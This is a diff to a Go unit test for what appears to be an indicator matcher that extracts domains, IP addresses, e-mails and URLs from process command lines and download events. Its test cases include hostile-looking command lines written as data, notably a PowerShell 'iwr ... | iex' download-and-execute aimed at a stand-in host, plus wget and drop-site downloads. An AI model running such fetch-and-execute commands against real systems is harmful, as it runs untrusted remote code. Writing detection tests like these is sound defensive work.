@@ -53,6 +53,9 @@ func TestMatcher(t *testing.T) {
 		"host of a url":         {process(model.Process{CommandLine: `iwr https://u@cdn.evil.example:8443/p?q=1|iex`}), []string{"domain:evil.example"}},
 		"address of a url":      {process(model.Process{CommandLine: `wget http://192.0.2.7/x`}), []string{"ipv4:192.0.2.7"}},
 		"e-mail":                {process(model.Process{CommandLine: `mail -t <bad@EVIL.test>`}), []string{"email:bad@evil.test"}},
+		"e-mail before a url":   {process(model.Process{CommandLine: `send -t bad@evil.test http://x.test/a`}), []string{"email:bad@evil.test"}},
+		"url of a download":     {&model.Event{URL: "https://drop.example/b", File: &model.File{Path: `C:\x`}}, nil},
+		"download, exactly":     {&model.Event{URL: "HTTP://drop.example/a.php"}, []string{"url:http://drop.example/a.php"}},
 		"nothing":               {&model.Event{}, nil},
 	} {
 		if got := match(c.e); !slices.Equal(got, c.want) {
